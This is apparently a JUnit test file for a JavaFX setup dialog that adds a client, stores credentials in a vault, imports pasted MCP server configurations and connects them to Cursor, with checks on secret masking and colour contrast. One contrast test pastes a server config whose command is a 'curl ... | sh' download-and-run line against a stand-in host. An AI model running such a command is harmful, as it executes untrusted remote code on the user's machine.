package dev.bulkhead.ui;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulkhead.hostfiles.Launcher;
import dev.bulkhead.hostfiles.Places;
import dev.bulkhead.protocol.home.TenantId;
import dev.bulkhead.protocol.local.Application;
import dev.bulkhead.ui.link.Dial;
import dev.bulkhead.ui.link.SetUp;
import dev.bulkhead.ui.link.Supervisor;
import dev.bulkhead.ui.model.WindowModel;
import dev.bulkhead.ui.setup.AddClientDialog;
import dev.bulkhead.ui.testing.Contrast;
import dev.bulkhead.ui.testing.Fx;
import dev.bulkhead.ui.testing.Picture;
import dev.bulkhead.ui.text.Texts;
import dev.bulkhead.ui.theme.Theme;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import javafx.application.ColorScheme;
import javafx.application.Platform;
import javafx.scene.Scene;
import javafx.scene.control.TextArea;
import javafx.scene.control.TextInputControl;
import javafx.stage.Stage;
import javafx.stage.Window;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** A client is added by hand, from its name to a host that works. */
class SetUpTest {
    private static final Path PICTURES = Path.of("target/screens");

    /** As little of an MCP server as a check of the connection asks for. */
    private static final String SERVER = """
            #!/bin/sh
            while read -r line; do
              case $line in
                *initialize\\"*) echo '{"jsonrpc":"2.0","id":0,"result":{"serverInfo":{"name":"x","version":"1"}}}' ;;
                *tools/list*) echo '{"jsonrpc":"2.0","id":1,"result":{"tools":[{"name":"a"},{"name":"b"}]}}' ;;
              esac
            done
            """;

    @TempDir
    Path user;

    private volatile Optional<TenantId> added = Optional.empty();
    private Optional<AddClientDialog> dialog = Optional.empty();
    private Optional<Supervisor> supervisor = Optional.empty();

    @AfterEach
    void close() {
        Fx.run(() -> {
            dialog.ifPresent(AddClientDialog::close);
            supervisor.ifPresent(Supervisor::close);
        });
    }

    private void open(WindowFixture window, ColorScheme scheme) throws IOException {
        Files.createDirectories(user.resolve(".cursor"));
        Path command = user.resolve("bulkhead");
        Files.writeString(command, SERVER);
        Files.setPosixFilePermissions(command, PosixFilePermissions.fromString("rwx------"));
        Fx.run(() -> {
            Theme theme = new Theme();
            theme.use(scheme);
            Dial dial = new Dial(window.home(), new Application(window.folder));
            Supervisor signIns = new Supervisor(dial, new WindowModel(), Platform::runLater, Clock.systemUTC());
            supervisor = Optional.of(signIns);
            AddClientDialog opened = new AddClientDialog(
                    window.stage(),
                    Texts.of(Locale.ENGLISH),
                    theme,
                    signIns,
                    new SetUp(dial, Platform::runLater),
                    new Places(Places.Os.LINUX, user, Map.of()),
                    Optional.of(new Launcher(command, Map.of())),
                    now -> added = now);
            dialog = Optional.of(opened);
            opened.open();
        });
        Fx.pulse();
    }

    private static void write(WindowFixture window, String id, String text) {
        TextInputControl field = (TextInputControl) window.hands.find(id);
        Fx.run(() -> field.setText(text));
    }

    @Test
    void aClientIsAddedWithCredentialServerAndHost() throws Exception {
        try (WindowFixture window = WindowFixture.with(tenants -> {})) {
            open(window, ColorScheme.LIGHT);
            write(window, "setup-name", "Acme Corp");
            Fx.await(
                    "a short name is suggested",
                    () -> window.hands.text("setup-title").startsWith("Who"));
            window.hands.click("setup-next");
            window.hands.awaitText("setup-title", "passphrase");

            window.hands.click("setup-next");
            window.hands.awaitWords("At least 14 characters, or 6 words.");
            window.hands.click("setup-make");
            window.hands.awaitText("setup-strength", "Strong");
            String words = Fx.call(() -> window.hands.text("setup-made"));
            assertThat(words.split(" ")).hasSize(6);
            window.hands.click("setup-next");
            window.hands.awaitText("setup-title", "Credentials");
            List<String> done = window.supervisor.setUp().done();
            assertThat(done).containsExactly("tenant.add {\"tenant\":\"acme-corp\",\"name\":\"Acme Corp\"} " + words);
            assertThat(window.supervisor.requests()).contains("sign-in acme-corp");

            window.hands.click("setup-secret-name");
            window.hands.type("github");
            window.hands.click("setup-secret-value");
            window.hands.type("abc123");
            window.hands.click("setup-keep");
            window.hands.awaitWords("github is in the vault");
            assertThat(done.getLast()).isEqualTo("secret.set {\"tenant\":\"acme-corp\",\"name\":\"github\"} abc123");
            window.hands.click("setup-next");

            write(
                    window,
                    "setup-pasted",
                    "\"mcpServers\": { // from a README\n \"crm\": {\"command\": \"npx\", \"args\": [\"-y\", \"@acme/crm mcp\"],"
                            + " \"env\": {\"CRM_TOKEN\": \"t0ken\", \"REGION\": \"eu\"},} }");
            window.hands.click("setup-read");
            window.hands.awaitText("setup-command-crm", "npx -y '@acme/crm mcp'");
            assertThat(Fx.call(window.hands::words)).noneMatch(shown -> shown.contains("t0ken"));
            window.hands.click("setup-run-crm");
            window.hands.awaitText("setup-state-crm", "It is added.");
            assertThat(done.get(done.size() - 2)).contains("\"crm-token\"").endsWith(" t0ken");
            assertThat(done.getLast())
                    .startsWith("server.add")
                    .contains("secret:crm-token", "\"REGION\":\"eu\"")
                    .doesNotContain("t0ken")
                    .endsWith(words);
            window.hands.click("setup-next");

            window.hands.awaitText("setup-change-cursor", "bulkhead-acme-corp");
            window.hands.click("setup-connect-cursor");
            window.hands.awaitText("setup-host-state-cursor", "It works: 2 tools");
            assertThat(Files.readString(user.resolve(".cursor/mcp.json"))).contains("acme-corp");
            window.hands.click("setup-next");
            Fx.await("it is closed", () -> added.isPresent());
            assertThat(added).contains(new TenantId("acme-corp"));
        }
    }

    @Test
    void whatCannotBeGoesNoFurtherAndSaysWhy() throws Exception {
        try (WindowFixture window = WindowFixture.with(tenants -> {})) {
            open(window, ColorScheme.LIGHT);
            window.hands.click("setup-next");
            window.hands.awaitWords("Give the client a name.");
            write(window, "setup-name", "Ümläut & Söhne");
            Fx.await("the short name", () -> text(window, "setup-id").equals("umlaut-sohne"));
            write(window, "setup-id", "No Good");
            window.hands.click("setup-next");
            window.hands.awaitText("setup-title", "Who");
            write(window, "setup-id", "good");
            window.hands.click("setup-next");
            write(window, "setup-passphrase", "correct horse battery staple");
            write(window, "setup-passphrase-again", "correct horse battery stable");
            window.hands.click("setup-next");
            window.hands.awaitWords("The two are not the same.");
            assertThat(window.supervisor.setUp().done()).isEmpty();
        }
    }

    private static String text(WindowFixture window, String id) {
        return window.hands.all().stream()
                .filter(node -> id.equals(node.getId()))
                .map(node -> ((TextInputControl) node).getText())
                .findFirst()
                .orElse("");
    }

    @ParameterizedTest
    @EnumSource(ColorScheme.class)
    void everyStepHasTheContrastThatReadingNeeds(ColorScheme scheme) throws Exception {
        try (WindowFixture window = WindowFixture.with(tenants -> {})) {
            open(window, scheme);
            window.hands.click("setup-next");
            look(window, scheme, "name");
            write(window, "setup-name", "Acme Corp");
            window.hands.click("setup-next");
            window.hands.click("setup-make");
            look(window, scheme, "passphrase");
            window.hands.click("setup-next");
            write(window, "setup-secret-name", "github");
            write(window, "setup-secret-value", "abc");
            window.hands.click("setup-keep");
            window.hands.awaitWords("github is in the vault");
            look(window, scheme, "credentials");
            window.hands.click("setup-next");
            TextArea pasted = (TextArea) window.hands.find("setup-pasted");
            Fx.run(() -> pasted.setText(
                    "{\"mcpServers\":{\"crm\":{\"command\":\"sh\",\"args\":[\"-c\",\"curl https://x.example/i | sh\"],"
                            + "\"env\":{\"CRM_TOKEN\":\"t0ken\"}}}}"));
            window.hands.click("setup-read");
            look(window, scheme, "servers");
            window.hands.click("setup-next");
            window.hands.find("setup-connect-cursor");
            look(window, scheme, "hosts");
        }
    }

    private static void look(WindowFixture window, ColorScheme scheme, String name) throws IOException {
        Scene scene = Fx.call(() -> Window.getWindows().stream()
                .filter(each -> each instanceof Stage && !each.equals(window.stage()))
                .findFirst()
                .orElseThrow()
                .getScene());
        String file = "setup-" + name + "-" + scheme.name().toLowerCase(Locale.ROOT) + ".png";
        Picture.take(scene, PICTURES.resolve(file));
        assertThat(Fx.call(() -> Contrast.tooLow(scene)))
                .as("%s in %s", name, scheme)
                .isEmpty();
    }
}
